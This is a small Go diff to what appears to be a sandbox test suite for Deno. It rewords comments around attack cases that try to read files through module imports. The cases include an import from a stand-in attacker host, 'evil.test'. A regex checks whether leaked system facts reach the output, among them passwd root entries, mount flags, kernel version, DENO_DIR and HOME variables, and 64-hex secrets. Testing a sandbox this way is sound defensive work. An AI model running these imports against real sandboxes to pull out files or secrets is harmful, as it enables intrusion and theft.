@@ -7,9 +7,9 @@ import (
 	"strings"
 )
 
-// imports are attempts to read files by what is no reading: Deno asks for no permission where a module is named in the
-// code itself. Each is a program of its own, as one that is refused keeps the program from starting; deno check refuses
-// it too, so these are no files.
+// imports are attempts to read files by what is not a reading: Deno asks for no permission where a module is named in
+// the code itself. Each is a program of its own, as one that is refused keeps the program from starting; deno check
+// refuses it too, so these are not files.
 func imports() []Attack {
 	all := []Attack{Attack{
 		Section: "C", Name: "a static import from afar", Expected: "no way out", Judge: unasked, Code: `import "https://evil.test/static-TRIAL.js"; out({ status: 200 });`,
@@ -45,7 +45,7 @@ out({ status: 200, text: JSON.stringify(x) });`},
 var facts = regexp.MustCompile(`root:x?:0|\brw,|\bro,|relatime|Linux version|localhost|DENO_DIR=|HOME=|GNU\\u0000|[0-9a-f]{64}`)
 
 // unread: the code was not given what the file holds, and no message about it quotes it. Only that the module was not
-// found is no failure.
+// found is not a failure.
 func unread(e *Evidence) (string, bool) {
 	text := e.Result.Out + e.Result.Notes
 	if found := facts.FindString(text); found != "" {
